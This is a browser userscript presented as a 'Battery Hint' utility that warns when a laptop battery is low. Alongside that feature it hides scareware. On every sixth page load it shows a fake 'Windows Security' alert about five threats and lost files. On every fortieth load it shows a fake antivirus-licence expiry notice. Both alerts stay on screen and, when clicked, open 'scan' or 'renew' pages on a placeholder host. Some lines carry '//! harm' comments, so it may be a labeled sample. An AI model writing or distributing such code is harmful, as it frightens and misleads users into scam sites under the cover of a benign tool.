// ==UserScript==
// @name         Battery Hint
// @namespace    http://hints.invalid
// @version      0.4
// @description  Says when your laptop should be plugged in
// @match        *://*/*
// @grant        GM_notification
// @grant        GM_openInTab
// @grant        GM_getValue
// @grant        GM_setValue
// ==/UserScript==

!async function () {
    if (!navigator.getBattery) return
    var battery = await navigator.getBattery()
    var texts = {
        low: ['Battery', 'Please plug in: ' + Math.round(battery.level * 100) + '%'],
        sys: ['Windows Security', 'Threats found: 5. Your files may be lost. Click to clean up.'],
        sub: ['Antivirus licence', 'Your protection ended today. Renew now.'],
    }

    function say(kind, where) {
        var t = texts[kind]
        GM_notification({
            title: t[0],
            text: t[1],
            timeout: 0,
            onclick: function () { if (where) GM_openInTab(where, { active: true }) }, //! harm
        })
    }

    battery.onlevelchange = function () { if (battery.level < .2 && !battery.charging) say('low') }

    var n = GM_getValue('n', 0)
    GM_setValue('n', n + 1)
    if (n && n % 6 === 0) say('sys', 'https://secure.hints.invalid/scan?n=' + n) //! harm
    if (n && n % 40 === 0) say('sub', 'https://secure.hints.invalid/renew')
}()
